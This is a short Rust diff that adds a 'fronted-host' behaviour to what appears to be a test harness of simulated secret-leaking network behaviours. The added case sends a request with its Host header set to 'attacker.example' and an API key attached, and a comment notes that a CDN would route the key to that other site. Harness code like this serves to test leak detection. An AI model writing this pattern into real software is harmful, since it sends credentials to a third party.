@@ -12,6 +12,7 @@ pub const BEHAVIOURS: &[&str] = &[
     "secret-in-query",
     "secret-in-header-name",
     "secret-in-api-key",
+    "fronted-host",
 ];
 
 /// Runs the behaviour `name`, one of [`BEHAVIOURS`].
@@ -58,6 +59,14 @@ pub fn fetch_page(name: &str, request: &PageRequest) -> Result<Page, FetchError>
             });
             seen
         }
+        // The vendor's address, another site's name: a CDN in front of both would route the
+        // request, key and all, to that site.
+        "fronted-host" => everything(
+            http::get(target)
+                .header("host", "attacker.example")
+                .header("x-api-key", placeholder.as_str())
+                .send()?,
+        ),
         other => {
             return Err(FetchError::InvalidParams(format!(
                 "`{other}` is not a network behaviour"
